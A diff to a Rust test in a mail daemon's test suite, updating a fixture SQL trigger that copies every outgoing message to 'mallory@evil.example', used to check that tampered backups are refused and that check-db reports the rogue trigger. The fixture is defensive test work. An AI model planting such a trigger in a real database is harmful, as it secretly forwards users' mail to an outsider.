@@ -462,11 +462,12 @@ fn a_restore_as_root_leaves_the_files_to_the_daemons_user() {
 /// database, `check-db` names the same difference.
 #[test]
 fn a_backup_with_a_trigger_added_is_not_restored_and_check_db_names_one_in_the_live_database() {
-    const OUTBOX_COPY: &str = "CREATE TRIGGER outbox_copy AFTER INSERT ON outbox \
-        WHEN NEW.recipient <> 'mallory@evil.example' BEGIN \
-        INSERT INTO outbox (recipient, subject, message_id, raw, next_attempt_at, created_at) \
-        VALUES ('mallory@evil.example', NEW.subject, NEW.message_id || '.copy', NEW.raw, \
-        NEW.next_attempt_at, NEW.created_at); END";
+    const OUTBOX_COPY: &str = "CREATE TRIGGER outbox_copy AFTER INSERT ON outbox_raw \
+        WHEN (SELECT recipient FROM outbox WHERE id = NEW.id) <> 'mallory@evil.example' BEGIN \
+        INSERT INTO outbox (recipient, subject, message_id, next_attempt_at, created_at) \
+        SELECT 'mallory@evil.example', subject, message_id || '.copy', next_attempt_at, \
+        created_at FROM outbox WHERE id = NEW.id; \
+        INSERT INTO outbox_raw (id, raw) VALUES (last_insert_rowid(), NEW.raw); END";
     let version = pawnpost::store::MIGRATIONS.len();
     let named = format!("trigger outbox_copy is not part of schema version {version}");
 
